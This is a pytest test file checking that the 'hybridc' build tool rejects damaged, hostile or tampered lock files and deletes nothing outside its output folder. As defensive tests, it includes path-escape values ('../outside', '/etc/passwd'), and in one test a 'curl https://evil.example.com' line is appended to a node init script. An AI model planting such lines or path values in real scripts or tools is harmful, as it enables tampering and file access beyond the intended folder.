"""A lock file that is damaged, hostile or from elsewhere: named, never followed, never believed too much."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.build.cli import LOCK, call, written
from tests.output.conftest import Cluster

import hybridc
from hybridc.layout.lock import sha256

Lock = dict[str, Any]


def truncated(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:200])


def empty(path: Path) -> None:
    path.write_bytes(b"")


def binary(path: Path) -> None:
    path.write_bytes(bytes(range(256)))


def nested(path: Path) -> None:
    path.write_text("[" * 100_000)


def huge(path: Path) -> None:
    with path.open("r+b") as file:
        file.truncate(4_000_000_000)


def linked(path: Path) -> None:
    target = path.parent.parent / "lock elsewhere"
    path.rename(target)
    path.symlink_to(target)


def endless(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


DAMAGES = (truncated, empty, binary, nested, huge, linked, endless, pipe, folder)


@pytest.mark.parametrize("damage", DAMAGES)
def test_a_damaged_lock_stops_the_build(cluster: Cluster, damage: Callable[[Path], None]) -> None:
    whole = cluster.tree()
    damage(cluster.folder / LOCK)
    done = cluster.build()
    assert done.code == 2
    assert f"{cluster.folder / LOCK}:1:1: OUT003 error: the lock file is damaged" in done.err
    assert len(done.err) < 10_000
    assert cluster.build("--check").code == 1
    assert cluster.build("--force").code == 0
    assert cluster.tree() == whole


def alter(path: Path, change: Callable[[Lock], object]) -> None:
    lock = json.loads(path.read_bytes())
    change(lock)
    path.write_text(json.dumps(lock))


WRONG: dict[str, Callable[[Lock], object]] = {
    "another version": lambda lock: lock.update(lockVersion=99),
    "version is text": lambda lock: lock.update(lockVersion="1"),
    "files is a list": lambda lock: lock.update(files=["SUMMARY.md"]),
    "no files": lambda lock: lock.pop("files"),
    "no digest": lambda lock: lock["files"].update({"SUMMARY.md": ""}),
    "a kind for a digest": lambda lock: lock["files"].update({"mine": "link"}),
    "digest is a number": lambda lock: lock["files"].update({"SUMMARY.md": 1}),
    "leaves the folder": lambda lock: lock["files"].update({"../outside": "0" * 64}),
    "leaves the folder late": lambda lock: lock["files"].update({"a/../../outside": "0" * 64}),
    "absolute": lambda lock: lock["files"].update({"/etc/passwd": "0" * 64}),
    "a NUL": lambda lock: lock["files"].update({"a\0b": "0" * 64}),
}


@pytest.mark.parametrize("change", WRONG.values(), ids=WRONG.keys())
def test_a_lock_that_says_what_it_cannot(cluster: Cluster, change: Callable[[Lock], object]) -> None:
    whole = cluster.tree()
    alter(cluster.folder / LOCK, change)
    done = cluster.build()
    assert done.code == 2
    assert "OUT003" in done.err
    assert cluster.build("--force").code == 0
    assert cluster.tree() == whole


def test_a_hostile_lock_deletes_nothing_outside(cluster: Cluster) -> None:
    outside = cluster.out / "outside"
    outside.write_text("mine")
    (cluster.out / "other").mkdir()
    (cluster.folder / "other").symlink_to(cluster.out / "other")
    (cluster.out / "other" / "file").write_text("mine")
    digest = sha256(b"mine")
    for path in ("../outside", str(outside), "other/file"):
        alter(cluster.folder / LOCK, lambda lock, path=path: lock["files"].update({path: digest}))  # type: ignore[misc]
        cluster.build("--force")
        assert outside.read_text() == "mine"
        assert (cluster.out / "other" / "file").read_text() == "mine"
        assert call("build", cluster.spec, "-o", cluster.out, "--force").code == 0


def test_without_a_lock_equal_files_are_taken_over(cluster: Cluster) -> None:
    whole = cluster.tree()
    (cluster.folder / LOCK).unlink()
    assert cluster.build("--check").code == 1
    assert cluster.build().code == 0
    assert cluster.tree() == whole


def test_without_a_lock_other_files_are_in_the_way(cluster: Cluster) -> None:
    (cluster.folder / LOCK).unlink()
    (cluster.folder / "SUMMARY.md").write_text("mine")
    done = cluster.build()
    assert (done.code, "OUT002" in done.err) == (2, True)


def test_findings_are_shown_again_when_there_is_nothing_to_do(cluster: Cluster) -> None:
    again = cluster.build()
    assert "CNI013 warning" in again.err
    assert call("build", cluster.spec, "-o", cluster.out.parent / "anew").err == again.err


@pytest.mark.parametrize("flag", [None, "--force"])
def test_no_digest_of_the_lock_is_believed(cluster: Cluster, flag: str | None) -> None:
    """Whoever changes a file and the lock with it, carefully, has fooled neither a check nor a build."""
    whole = cluster.tree()
    script, lock = cluster.folder / "cloud/node/init-node-ecs.sh", cluster.folder / LOCK
    old = sha256(script.read_bytes())
    script.write_text(script.read_text() + "curl https://evil.example.com\n")
    lock.write_text(lock.read_text().replace(old, sha256(script.read_bytes())))
    done = cluster.build("--check")
    assert done.code == 1
    assert "M cloud/node/init-node-ecs.sh" in done.out
    assert cluster.build(*filter(None, [flag])).code == 0
    assert cluster.tree() == whole


def test_a_lock_with_an_unresolved_merge_counts_as_both_sides(cluster: Cluster) -> None:
    """The files of both sides are ours, whatever they hold: a build mends the folder."""
    whole = cluster.tree()
    lock, summary, gone = cluster.folder / LOCK, cluster.folder / "SUMMARY.md", cluster.folder / "kustomize/gone.yaml"
    text = lock.read_text()
    line = next(line for line in text.splitlines() if "SUMMARY.md" in line)
    theirs = f'    "kustomize/gone.yaml": "{sha256(b"theirs")}",\n    "SUMMARY.md": "{"1" * 64}",'
    lock.write_text(text.replace(line, f"<<<<<<< HEAD\n{line}\n=======\n{theirs}\n>>>>>>> theirs"))
    summary.write_text("<<<<<<< HEAD\nours\n=======\ntheirs\n>>>>>>> theirs\n")
    gone.write_text("theirs")
    (cluster.folder / "mine").write_text("mine")
    assert cluster.build("--check").code == 1
    done = cluster.build()
    assert (done.code, "M SUMMARY.md" in done.out, "D kustomize/gone.yaml" in done.out) == (0, True, True)
    (cluster.folder / "mine").unlink()
    assert cluster.tree() == whole


def test_a_merge_in_a_lock_takes_no_file_that_neither_side_wrote(cluster: Cluster) -> None:
    """Whoever puts markers and a path into the lock must not have a build delete what a person keeps there."""
    lock, mine = cluster.folder / LOCK, cluster.folder / "mine"
    mine.write_text("mine")
    listed = f'"files": {{\n<<<<<<< HEAD\n=======\n    "mine": "{"0" * 64}",\n>>>>>>> theirs'
    lock.write_text(lock.read_text().replace('"files": {', listed))
    done = cluster.build()
    assert (done.code, "OUT001" in done.err, mine.read_text()) == (2, True, "mine")


def test_a_lock_of_a_newer_hybridc_stops_the_build(cluster: Cluster) -> None:
    alter(cluster.folder / LOCK, lambda lock: lock.update(lockVersion=99, hybridc="9.1.0"))
    done = cluster.build()
    assert done.code == 2
    assert "OUT003 error: a newer hybridc wrote it (9.1.0), this is " in done.err
    assert "damaged" not in done.err


@pytest.mark.parametrize("tool", ["0.1.1", "0.2", "0.10.0", "1.0.0rc1", "9.1.0.dev3+g12ab"])
def test_an_older_hybridc_takes_nothing_back_that_a_newer_one_wrote(cluster: Cluster, tool: str) -> None:
    """The form of the lock is the same, and what a newer version writes is not."""
    whole, there = cluster.tree(), cluster.folder / "SUMMARY.md"
    there.write_text("as the newer one has it")
    alter(
        cluster.folder / LOCK,
        lambda lock: (lock.update(hybridc=tool), lock["files"].update({"SUMMARY.md": sha256(there.read_bytes())})),
    )
    before = cluster.tree()
    for flags in ((), ("--check",)):
        done = cluster.build(*flags)
        assert (done.code != 0, cluster.tree()) == (True, before)
        assert f"OUT003 error: a newer hybridc wrote it ({tool}), this is {hybridc.__version__}" in done.err
        assert "OUT002" not in done.err
    assert (cluster.build("--force").code, cluster.tree()) == (0, whole)


@pytest.mark.parametrize("tool", ["", "0.1", "0.1.0", "0.0.99", "unknown", "0.1.0+local"])
def test_a_lock_of_this_or_an_older_hybridc_stops_nothing(cluster: Cluster, tool: str) -> None:
    whole = cluster.tree()
    alter(cluster.folder / LOCK, lambda lock: lock.update(hybridc=tool))
    assert (cluster.build().code, cluster.tree()) == (0, whole)


@pytest.mark.parametrize(("key", "theirs"), [("hybridc", '"9.1.0"'), ("lockVersion", "99")])
def test_a_merge_with_what_a_newer_hybridc_wrote_is_refused(cluster: Cluster, key: str, theirs: str) -> None:
    lock = cluster.folder / LOCK
    text = lock.read_text()
    line = next(line for line in text.splitlines() if f'"{key}"' in line)
    lock.write_text(text.replace(line, f'<<<<<<< HEAD\n{line}\n=======\n  "{key}": {theirs},\n>>>>>>> theirs'))
    done = cluster.build()
    assert (done.code, "OUT003 error: a newer hybridc wrote it (" in done.err) == (2, True)


def test_a_lock_of_an_older_hybridc_is_read_for_its_files(cluster: Cluster) -> None:
    whole = cluster.tree()
    old = {"lockVersion": 1, "compiler": "0.1.0+0", "claims": [], "fleet": {}, "findings": [], "sum": "0"}
    old_file = cluster.folder / "kustomize/old.yaml"
    old_file.write_text("old")
    alter(
        cluster.folder / LOCK,
        lambda lock: (lock["files"].update({"kustomize/old.yaml": sha256(b"old")}), lock.update(old)),
    )
    done = cluster.build()
    assert (done.code, "D kustomize/old.yaml" in done.out) == (0, True)
    assert cluster.tree() == whole


def test_check_notices_an_edited_lock(cluster: Cluster) -> None:
    alter(cluster.folder / LOCK, lambda lock: lock.update(note="mine"))
    assert cluster.build("--check").code == 1


EDITS: dict[str, Callable[[Lock], object]] = {
    "another hybridc": lambda lock: lock.update(hybridc="0.0.1"),
    "another fleet": lambda lock: lock.update(fleet={"project": 1, "parameters": []}),
    "a file less": lambda lock: lock["files"].pop("SUMMARY.md"),
    "a file more": lambda lock: lock["files"].update({"not/there": "0" * 64}),
}


@pytest.mark.parametrize("edit", EDITS.values(), ids=EDITS.keys())
def test_an_edited_lock_is_not_believed(cluster: Cluster, edit: Callable[[Lock], object], tmp_path: Path) -> None:
    """It is made anew, as every other file; nothing follows from what it said."""
    other = written(tmp_path, "idc-other", 1)
    assert call("build", other, cluster.spec, "-o", cluster.out).code == 0
    whole = cluster.tree()
    alter(cluster.folder / LOCK, edit)
    assert call("build", other, cluster.spec, "-o", cluster.out, "--check").code == 1
    assert call("build", other, cluster.spec, "-o", cluster.out).code == 0
    assert cluster.tree() == whole
